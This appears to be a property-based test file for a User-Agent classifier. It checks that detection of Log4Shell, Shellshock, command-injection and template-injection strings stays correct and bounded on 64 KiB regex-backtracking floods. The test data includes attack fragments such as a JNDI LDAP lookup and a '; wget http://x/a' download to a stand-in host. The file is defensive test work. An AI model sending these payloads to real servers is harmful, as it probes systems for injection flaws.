import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  createUserAgentClassifier,
  type UserAgentCategory,
} from "../../../shared/detectors/userAgent/classifyUserAgent.js";

const SIXTY_FOUR_KIB = 64 * 1024;

interface Flood {
  shape: string;
  userAgent: string;
  /** The finding when all 64 KiB are examined. */
  category: UserAgentCategory | null;
  /** The finding under the default 8 KiB limit, which hides a payload placed at the end. */
  categoryInFirst8KiB: UserAgentCategory | null;
}

// Shapes that make naive regular expressions or nested scanners backtrack or go quadratic.
// Timings belong to bench/userAgentBench.ts; these pin that the answers stay right.
const FLOODS: readonly Flood[] = [
  flood("lookup openings", fill("${"), null),
  flood("empty-default openings", fill("${::-"), null),
  flood("lower-lookup openings", fill("${lower:"), "log4shell"),
  flood(
    "lookup openings before a JNDI lookup",
    fill("${", "${jndi:ldap://x/a}"),
    "log4shell",
    null,
  ),
  flood("closed empty defaults", fill("${::-a}"), null),
  flood("closing braces", fill("}"), null),
  flood("opening parentheses", fill("("), null),
  flood("empty parentheses", fill("() "), null),
  flood("whitespace inside a function definition", fill(" ", ") {", "("), "shellshock", null),
  flood("command substitutions", fill("$("), null),
  flood("semicolons", fill(";"), null),
  flood("newlines", fill("\n"), null),
  flood("separators before a command", fill("; ", "; wget http://x/a"), "command-injection", null),
  flood("pipes before long words", fill("|" + "a".repeat(50)), null),
  flood("template openings", fill("{{"), null),
  flood("template openings before code", fill("{{", "{{7*7}}"), "template-injection", null),
  flood("percent signs", fill("%"), null),
  flood("escaped percent signs", fill("%25"), null),
  flood("broken unicode escapes", fill("\\u00"), null),
  flood("a browser User-Agent", fill("Mozilla/5.0 (Windows NT 10.0; Win64; x64) "), null),
  flood("a secret-like run after a lookup", fill("A1", "", "${jndi:"), "log4shell"),
];

/** `unit` repeated between `head` and `tail` to fill 64 KiB. */
function fill(unit: string, tail = "", head = ""): string {
  const repeats = Math.floor((SIXTY_FOUR_KIB - head.length - tail.length) / unit.length);
  return head + unit.repeat(repeats) + tail;
}

function flood(
  shape: string,
  userAgent: string,
  category: UserAgentCategory | null,
  categoryInFirst8KiB = category,
): Flood {
  return { shape, userAgent, category, categoryInFirst8KiB };
}

describe("User-Agent classifier on 64 KiB adversarial input", () => {
  const classifyDefault = createUserAgentClassifier();
  const classifyEverything = createUserAgentClassifier({ maxExaminedChars: SIXTY_FOUR_KIB });

  it.each(FLOODS)("reads 64 KiB of $shape to the end", ({ userAgent, category }) => {
    expect(userAgent.length).toBeLessThanOrEqual(SIXTY_FOUR_KIB);
    expect(classifyEverything(userAgent)?.category ?? null).toBe(category);
  });

  it.each(FLOODS)(
    "reads only the first 8 KiB of $shape by default",
    ({ userAgent, categoryInFirst8KiB }) => {
      expect(classifyDefault(userAgent)?.category ?? null).toBe(categoryInFirst8KiB);
    },
  );

  it("redacts a 64 KiB secret-like run down to the marker", () => {
    const finding = classifyEverything(`\${jndi:ldap://x/${"Q9".repeat(SIXTY_FOUR_KIB / 2 - 16)}}`);

    expect(finding?.fragment).toBe("${jndi:ldap://x/…redacted…");
  });

  it("never throws and keeps fragments within 120 characters on strings of payload pieces", () => {
    const piece = fc.constantFrom(
      ...["${", "}", ":-", "jndi:", "ldap:", "lower:", "(", ")", " ", "{", ";", "|", "$(", "`"],
      ...["wget", "id", "%24", "%7b", "%25", "\\u0024", "a1b2c3d4e5f6", "/", "'", "*", "7"],
    );
    fc.assert(
      fc.property(fc.string({ unit: piece, maxLength: 400 }), (userAgent) => {
        const finding = classifyDefault(userAgent);
        expect(finding === null || finding.fragment.length <= 120).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});
